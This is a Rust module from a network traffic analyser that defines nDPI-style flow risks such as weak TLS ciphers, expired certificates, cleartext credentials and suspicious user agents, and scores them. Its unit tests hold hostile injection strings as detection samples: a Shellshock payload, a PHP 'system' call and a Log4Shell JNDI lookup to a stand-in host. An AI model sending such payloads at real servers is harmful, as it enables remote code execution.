//! Flow risks: what is wrong or suspicious about a session, as `risk` values named
//! after nDPI's (its identifiers without `NDPI_`, lower-case, words joined by `-`),
//! and `risk.score`, the sum of each risk's weight by its severity (nDPI's scale:
//! low 10, medium 50, high 100, severe 150). Dissectors add the risks they see
//! while parsing (a self-signed certificate, a DNS answer over 512 bytes); the
//! rest are judged from the finished row when it is written ([`assess`]).

use tyto_schema::SessionRecord;

use crate::kit::{put_int, put_text};

/// The risks Tyto judges. Each agrees with nDPI where nDPI has the same risk (a test
/// compares them flow by flow on nDPI's own captures).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Risk {
    /// An HTTP Host, TLS or QUIC server name that is an address, not a name.
    HttpNumericIpHost,
    /// HTTP without a user agent, or with one no browser or library sends
    /// ([`suspicious_user_agent`]).
    HttpSuspiciousUserAgent,
    /// The server's certificate was issued by itself (issuer equal to subject).
    TlsSelfsignedCertificate,
    /// The server chose SSL 3, TLS 1.0 or TLS 1.1.
    TlsObsoleteVersion,
    /// The server chose a cipher whose key exchange gives no forward secrecy (RSA).
    TlsWeakCipher,
    /// The server chose a cipher with a broken algorithm: RC4, DES, NULL, export grade,
    /// anonymous key exchange (nDPI classes these ciphers insecure, but has no risk
    /// of its own for them).
    TlsInsecureCipher,
    /// The server's certificate had expired, or was not yet valid, when the session began.
    TlsCertificateExpired,
    /// The server's certificate expires within 30 days of the session.
    TlsCertificateAboutToExpire,
    /// The server's certificate, issued since September 2020, is valid over 398 days.
    TlsCertValidityTooLong,
    /// A client hello without a server name.
    TlsMissingSni,
    /// The server name the client asked for is none of the names (DNS or address)
    /// the server's certificate lists as its alternative names.
    TlsCertificateMismatch,
    /// A DNS message over 512 bytes in one datagram.
    DnsLargePacket,
    /// SMB version 1.
    SmbInsecureVersion,
    /// Packets one way only.
    UnidirectionalTraffic,
    /// A protocol that carries credentials or files in clear, or is abused more than used.
    UnsafeProtocol,
    /// A password (or an account trusted without one) sent in clear: HTTP Basic, FTP,
    /// POP3 and IMAP logins before TLS, IRC's PASS, rsh.
    ClearTextCredentials,
    /// An answer saying the request failed: an HTTP status from 400 to 509, a DNS
    /// response code other than NOERROR, an SNMP response's error status.
    ErrorCodeDetected,
    /// A client hello of TLS 1.2 or later (DTLS included) offering no ALPN: what
    /// browsers never send, so probably not web traffic.
    TlsNotCarryingHttps,
    /// A client hello offering an application protocol (ALPN) but naming no server:
    /// every client that speaks h2 or http/1.1 to a server names it.
    TlsAlpnSniMismatch,
    /// A client hello offering an application protocol (ALPN) none of the common ones.
    TlsUncommonAlpn,
    /// A remote desktop session (RDP, VNC).
    DesktopOrFileSharingSession,
    /// One of the regular calls of a client to one destination (the `beacon`
    /// detector's finding), from the call that showed the period on.
    PeriodicFlow,
    /// An HTTP server saying it is Apache before 2.4 or nginx before 1.22, both
    /// out of support.
    HttpObsoleteServer,
    /// An HTTP answer of raw binary data or an archive (`application/octet-stream`,
    /// tar, zip, bzip2), or a file sent as an attachment.
    BinaryDataTransfer,
    /// An HTTP answer of a program: a Windows executable or installer cabinet, Java
    /// bytecode.
    BinaryApplicationTransfer,
}

impl Risk {
    pub fn name(self) -> &'static str {
        match self {
            Risk::HttpNumericIpHost => "http-numeric-ip-host",
            Risk::HttpSuspiciousUserAgent => "http-suspicious-user-agent",
            Risk::TlsSelfsignedCertificate => "tls-selfsigned-certificate",
            Risk::TlsObsoleteVersion => "tls-obsolete-version",
            Risk::TlsWeakCipher => "tls-weak-cipher",
            Risk::TlsInsecureCipher => "tls-insecure-cipher",
            Risk::TlsCertificateExpired => "tls-certificate-expired",
            Risk::TlsCertificateAboutToExpire => "tls-certificate-about-to-expire",
            Risk::TlsCertValidityTooLong => "tls-cert-validity-too-long",
            Risk::TlsMissingSni => "tls-missing-sni",
            Risk::TlsCertificateMismatch => "tls-certificate-mismatch",
            Risk::DnsLargePacket => "dns-large-packet",
            Risk::SmbInsecureVersion => "smb-insecure-version",
            Risk::UnidirectionalTraffic => "unidirectional-traffic",
            Risk::UnsafeProtocol => "unsafe-protocol",
            Risk::ClearTextCredentials => "clear-text-credentials",
            Risk::ErrorCodeDetected => "error-code-detected",
            Risk::TlsNotCarryingHttps => "tls-not-carrying-https",
            Risk::TlsAlpnSniMismatch => "tls-alpn-sni-mismatch",
            Risk::TlsUncommonAlpn => "tls-uncommon-alpn",
            Risk::DesktopOrFileSharingSession => "desktop-or-file-sharing-session",
            Risk::PeriodicFlow => "periodic-flow",
            Risk::HttpObsoleteServer => "http-obsolete-server",
            Risk::BinaryDataTransfer => "binary-data-transfer",
            Risk::BinaryApplicationTransfer => "binary-application-transfer",
        }
    }

    /// The weight of the risk's severity.
    fn score(self) -> i64 {
        const LOW: i64 = 10;
        const MEDIUM: i64 = 50;
        const HIGH: i64 = 100;
        match self {
            Risk::HttpNumericIpHost
            | Risk::UnidirectionalTraffic
            | Risk::UnsafeProtocol
            | Risk::ErrorCodeDetected
            | Risk::TlsNotCarryingHttps
            | Risk::DesktopOrFileSharingSession
            | Risk::PeriodicFlow => LOW,
            Risk::TlsMissingSni
            | Risk::TlsAlpnSniMismatch
            | Risk::TlsUncommonAlpn
            | Risk::HttpObsoleteServer
            | Risk::BinaryDataTransfer
            | Risk::DnsLargePacket
            | Risk::TlsCertificateAboutToExpire
            | Risk::TlsCertValidityTooLong => MEDIUM,
            Risk::TlsSelfsignedCertificate
            | Risk::TlsObsoleteVersion
            | Risk::TlsWeakCipher
            | Risk::TlsCertificateExpired
            | Risk::TlsCertificateMismatch
            | Risk::SmbInsecureVersion
            | Risk::ClearTextCredentials
            | Risk::HttpSuspiciousUserAgent => HIGH,
            Risk::TlsInsecureCipher | Risk::BinaryApplicationTransfer => 150,
        }
    }

    const ALL: [Risk; 25] = [
        Risk::HttpNumericIpHost,
        Risk::HttpSuspiciousUserAgent,
        Risk::TlsSelfsignedCertificate,
        Risk::TlsObsoleteVersion,
        Risk::TlsWeakCipher,
        Risk::TlsInsecureCipher,
        Risk::TlsCertificateExpired,
        Risk::TlsCertificateAboutToExpire,
        Risk::TlsCertValidityTooLong,
        Risk::TlsMissingSni,
        Risk::TlsCertificateMismatch,
        Risk::DnsLargePacket,
        Risk::SmbInsecureVersion,
        Risk::UnidirectionalTraffic,
        Risk::UnsafeProtocol,
        Risk::ClearTextCredentials,
        Risk::ErrorCodeDetected,
        Risk::TlsNotCarryingHttps,
        Risk::TlsAlpnSniMismatch,
        Risk::TlsUncommonAlpn,
        Risk::DesktopOrFileSharingSession,
        Risk::PeriodicFlow,
        Risk::HttpObsoleteServer,
        Risk::BinaryDataTransfer,
        Risk::BinaryApplicationTransfer,
    ];
}

/// Marks the session with `risk` (a field's values are kept once each).
pub fn add(rec: &mut SessionRecord, risk: Risk) {
    put_text(rec, text_field!("risk"), risk.name());
}

/// Marks the session with `risk` after it was assessed (a detector's finding on
/// the written row): `risk.score` is summed again.
pub fn add_assessed(rec: &mut SessionRecord, risk: Risk) {
    add(rec, risk);
    rec.extra.retain(|name| name != "risk.score");
    score(rec);
}

/// Application protocols (ALPN) nDPI counts as common: an offered one containing
/// none of these is uncommon, as nDPI matches them (anywhere in the name).
const COMMON_ALPNS: &[&str] = &[
    "http/0.9",
    "http/1.0",
    "http/1.1",
    "spdy/1",
    "spdy/2",
    "spdy/3",
    "spdy/3.1",
    "stun.turn",
    "stun.nat-discovery",
    "h2",
    "h2c",
    "h2-16",
    "h2-15",
    "h2-14",
    "h2-fb",
    "webrtc",
    "c-webrtc",
    "ftp",
    "imap",
    "pop3",
    "managesieve",
    "coap",
    "xmpp-client",
    "xmpp-server",
    "acme-tls/1",
    "mqtt",
    "dot",
    "ntske/1",
    "sunrpc",
    "h3",
    "smb",
    "irc",
    "h3-T051",
    "h3-T050",
    "hq-34",
    "hq-33",
    "hq-32",
    "hq-31",
    "hq-30",
    "hq-29",
    "hq-28",
    "hq-27",
    "hq-interop",
    "h3-fb-05",
    "h1q-fb",
    "doq-i00",
    "apns-security-v3",
    "apns-pack-v1",
];

/// An ALPN none of the common ones.
pub fn uncommon_alpn(alpn: &str) -> bool {
    !COMMON_ALPNS.iter().any(|c| alpn.contains(c))
}

/// A `Server` header naming Apache before 2.4.0 or nginx before 1.22.0 (their
/// supported releases, as nDPI dates them), with a full `a.b.c` version.
pub fn obsolete_server(server: &str) -> bool {
    let b = server.as_bytes();
    let (rest, oldest) = if b.len() > 7 && b[..7].eq_ignore_ascii_case(b"apache/") {
        (&server[7..], (2, 4, 0))
    } else if b.len() > 6 && b[..6].eq_ignore_ascii_case(b"nginx/") {
        (&server[6..], (1, 22, 0))
    } else {
        return false;
    };
    let digits: String = rest.chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
    let mut parts = digits.split('.').map(|p| p.parse::<u32>());
    match (parts.next(), parts.next(), parts.next()) {
        (Some(Ok(a)), Some(Ok(b)), Some(Ok(c))) => (a, b, c) < oldest,
        _ => false,
    }
}

/// Content types of raw binary data and archives.
const BINARY_DATA: &[&str] = &[
    "application/octet-stream",
    "application/bz",
    "application/bz2",
    "application/x-tar",
    "application/x-zip",
    "application/x-bzip",
];

/// Content types of programs.
const PROGRAMS: &[&str] = &[
    "application/exe",
    "application/java-vm",
    "application/vnd.ms-cab-compressed",
    "application/vnd.microsoft.portable-executable",
    "application/x-msdownload",
    "application/x-dosexec",
];

/// Remote desktop protocols (nDPI's desktop or file sharing sessions that Tyto names).
const DESKTOP_SHARING: &[&str] = &["rdp", "vnc", "teamviewer"];

/// Protocols nDPI deems unsafe: credentials or files in clear, or networks abused
/// more than used.
const UNSAFE: &[&str] = &["ftp", "telnet", "rsh", "pop3", "imap", "irc", "gnutella", "tor"];

/// A cipher with a broken algorithm: RC4, single DES, NULL encryption, export
/// grade, or no authentication of the key exchange.
pub fn insecure_cipher(name: &str) -> bool {
    ["_RC4_", "_DES_", "DES40", "_NULL_", "EXPORT", "_anon_"].iter().any(|w| name.contains(w))
}

/// A cipher that is not broken but whose RSA key exchange gives no forward secrecy.
pub fn weak_cipher(name: &str) -> bool {
    name.starts_with("TLS_RSA_WITH_") && !insecure_cipher(name)
}

/// A user agent no browser or HTTP library sends, by nDPI's rules: empty; shorter
/// than 4 characters or longer than 256; beginning with `test` or `<?`; holding `$`,
/// `{` or `}` (shell and template injection, as in Shellshock's `() { :; };`), or a
/// URL scheme other than `http` or `https` after its first character; or over 12
/// letters and nothing else, a fifth or more of them capitals (random strings).
pub fn suspicious_user_agent(ua: &str) -> bool {
    let n = ua.chars().count();
    let random = n > 12 && ua.chars().all(|c| c.is_ascii_alphabetic()) && {
        let capitals = ua.chars().filter(char::is_ascii_uppercase).count();
        capitals * 5 >= n
    };
    let odd_scheme = ua.find("://").is_some_and(|i| i > 0 && !matches!(ua.as_bytes()[i - 1], b'p' | b's'));
    random
        || odd_scheme
        || !(4..=256).contains(&n)
        || ua.starts_with("test")
        || ua.starts_with("<?")
        || ua.contains(['$', '{', '}'])
}

/// The risks only the finished row shows (those of one message were added as it
/// was parsed: TLS's versions and ciphers, certificates, DNS sizes, logins), then the
/// score of them all. Called as the row is written.
pub fn assess(rec: &mut SessionRecord) {
    let numeric = ["host.http", "host.tls", "host.quic"]
        .iter()
        .flat_map(|f| rec.extra.texts(f))
        .any(|h| h.trim_start_matches('[').trim_end_matches(']').parse::<std::net::IpAddr>().is_ok());
    if numeric {
        add(rec, Risk::HttpNumericIpHost);
    }
    if rec.protocols.iter().any(|p| UNSAFE.contains(&p.as_str())) {
        add(rec, Risk::UnsafeProtocol);
    }
    if rec.protocols.iter().any(|p| DESKTOP_SHARING.contains(&p.as_str())) {
        add(rec, Risk::DesktopOrFileSharingSession);
    }
    let types = rec.extra.texts("http.content-type");
    let binary = types.iter().any(|t| BINARY_DATA.contains(&t.as_str()));
    let program = types.iter().any(|t| PROGRAMS.contains(&t.as_str()));
    if binary {
        add(rec, Risk::BinaryDataTransfer);
    }
    if program {
        add(rec, Risk::BinaryApplicationTransfer);
    }
    if rec.protocols.iter().any(|p| p == "http") {
        // A request without a user agent; not a session whose requests were never
        // read (only answers seen), which says nothing of its client.
        let agents = rec.extra.texts("http.user-agent");
        let asked = !rec.extra.texts("http.method").is_empty();
        if (asked && agents.is_empty()) || agents.iter().any(|ua| suspicious_user_agent(ua)) {
            add(rec, Risk::HttpSuspiciousUserAgent);
        }
    }
    // nDPI's range of HTTP statuses (it reads codes above 509 as none).
    let http_error = rec.extra.ints("http.statuscode").iter().any(|c| (400..=509).contains(c));
    if http_error || rec.extra.texts("dns.status").iter().any(|s| s != "NOERROR") {
        add(rec, Risk::ErrorCodeDetected);
    }
    // To a group or a whole network, no answer is expected.
    let to_many = rec.dst_ip.is_some_and(|a| match a.to_ip() {
        std::net::IpAddr::V4(v4) => v4.is_multicast() || v4.is_broadcast() || v4.octets()[3] == 255,
        std::net::IpAddr::V6(v6) => v6.is_multicast(),
    });
    if matches!(rec.ip_protocol, 6 | 17) && rec.src.packets > 0 && rec.dst.packets == 0 && !to_many {
        add(rec, Risk::UnidirectionalTraffic);
    }
    score(rec);
}

/// `risk.score`: the weights of the risks held, summed.
fn score(rec: &mut SessionRecord) {
    let held = rec.extra.texts("risk");
    let score: i64 = Risk::ALL.iter().filter(|r| held.iter().any(|v| v == r.name())).map(|r| r.score()).sum();
    if score > 0 {
        put_int(rec, int_field!("risk.score"), score);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tyto_packet::Addr;
    use tyto_schema::Values;

    fn risks(rec: &SessionRecord) -> Vec<String> {
        rec.extra.texts("risk").to_vec()
    }

    #[test]
    fn remote_desktops_and_a_later_finding_are_scored() {
        let mut rec = SessionRecord { protocols: vec!["tcp".into(), "vnc".into()], ..SessionRecord::default() };
        assess(&mut rec);
        assert_eq!(risks(&rec), ["desktop-or-file-sharing-session"]);
        assert_eq!(rec.extra.ints("risk.score"), [10]);
        add_assessed(&mut rec, Risk::PeriodicFlow);
        assert_eq!(risks(&rec), ["desktop-or-file-sharing-session", "periodic-flow"]);
        assert_eq!(rec.extra.ints("risk.score"), [20]);
    }

    #[test]
    fn user_agents_browsers_send_or_not() {
        for odd in [
            "",
            "Go",
            "test-agent/1.0",
            "() { :; }; echo 93e4r0-CVE-2014-6271: true;echo;echo;",
            "<?php system('id'); ?>",
            "${jndi:ldap://evil.test/a}",
            "gopher://x",
            "vBKbaQgjyvRRbcgfvlsc",
            &"A".repeat(257),
        ] {
            assert!(suspicious_user_agent(odd), "{odd}");
        }
        for fine in [
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            "curl/8.5.0",
            "Mozil",
            "AspINet",
            "Android",
            "lowercaseletters",
            "Mozilla/5.0 (compatible; bot; +https://example.com/bot)",
        ] {
            assert!(!suspicious_user_agent(fine), "{fine}");
        }
    }

    #[test]
    fn ciphers_weak_insecure_or_fine() {
        assert!(weak_cipher("TLS_RSA_WITH_AES_128_CBC_SHA") && !insecure_cipher("TLS_RSA_WITH_AES_128_CBC_SHA"));
        assert!(weak_cipher("TLS_RSA_WITH_3DES_EDE_CBC_SHA"));
        assert!(insecure_cipher("TLS_RSA_WITH_RC4_128_MD5") && !weak_cipher("TLS_RSA_WITH_RC4_128_MD5"));
        assert!(insecure_cipher("TLS_ECDHE_RSA_WITH_RC4_128_SHA"));
        assert!(insecure_cipher("TLS_RSA_EXPORT_WITH_DES40_CBC_SHA") && insecure_cipher("TLS_RSA_WITH_NULL_SHA"));
        assert!(insecure_cipher("TLS_DH_anon_WITH_AES_128_CBC_SHA"));
        for fine in
            ["TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", "TLS_AES_128_GCM_SHA256", "TLS_DHE_RSA_WITH_AES_256_CBC_SHA"]
        {
            assert!(!weak_cipher(fine) && !insecure_cipher(fine), "{fine}");
        }
    }

    /// The row's own risks, each once, and their weights summed.
    #[test]
    fn a_row_is_judged_once_and_scored() {
        let mut rec = SessionRecord {
            ip_protocol: 6,
            dst_ip: Some(Addr::from_v4([192, 0, 2, 7])),
            protocols: vec!["tcp".into(), "http".into()],
            ..SessionRecord::default()
        };
        rec.src.packets = 3;
        rec.extra.add_text("host.http", "192.0.2.7").unwrap();
        rec.extra.add_text("tls.version", "TLSv1").unwrap();
        add(&mut rec, Risk::TlsObsoleteVersion);
        assess(&mut rec);
        assert_eq!(risks(&rec), ["tls-obsolete-version", "http-numeric-ip-host", "unidirectional-traffic"]);
        assert_eq!(rec.extra.get("risk.score"), Some(&Values::Int(vec![120])));
    }

    /// Packets one way to a group or a whole network expect no answer; and a
    /// session that got one is not one-way.
    #[test]
    fn one_way_to_one_host_only() {
        for (dst, one_way) in [([10, 0, 0, 2], true), ([239, 255, 255, 250], false), ([192, 168, 1, 255], false)] {
            let mut rec =
                SessionRecord { ip_protocol: 17, dst_ip: Some(Addr::from_v4(dst)), ..SessionRecord::default() };
            rec.src.packets = 1;
            assess(&mut rec);
            assert_eq!(risks(&rec).contains(&"unidirectional-traffic".to_string()), one_way, "{dst:?}");
        }
        let mut rec =
            SessionRecord { ip_protocol: 17, dst_ip: Some(Addr::from_v4([10, 0, 0, 2])), ..SessionRecord::default() };
        rec.src.packets = 1;
        rec.dst.packets = 1;
        assess(&mut rec);
        assert!(risks(&rec).is_empty());
        assert!(rec.extra.get("risk.score").is_none());
    }

    /// Failed answers are error codes; a status nDPI reads as none (over 509), a
    /// redirect, NOERROR or a query without an answer are not.
    #[test]
    fn error_answers_are_marked() {
        let judged = |statuses: &[i64], rcodes: &[&str]| {
            let mut rec = SessionRecord::default();
            for s in statuses {
                rec.extra.add_int("http.statuscode", *s).unwrap();
            }
            for r in rcodes {
                rec.extra.add_text("dns.status", r).unwrap();
            }
            assess(&mut rec);
            risks(&rec).contains(&"error-code-detected".to_string())
        };
        assert!(judged(&[200, 404], &[]));
        assert!(judged(&[509], &[]));
        assert!(judged(&[], &["NOERROR", "NXDOMAIN"]));
        assert!(judged(&[], &["SERVFAIL"]));
        assert!(!judged(&[200, 301, 399], &[]));
        assert!(!judged(&[510, 999], &[]));
        assert!(!judged(&[], &["NOERROR"]));
        assert!(!judged(&[], &[]));
    }
}
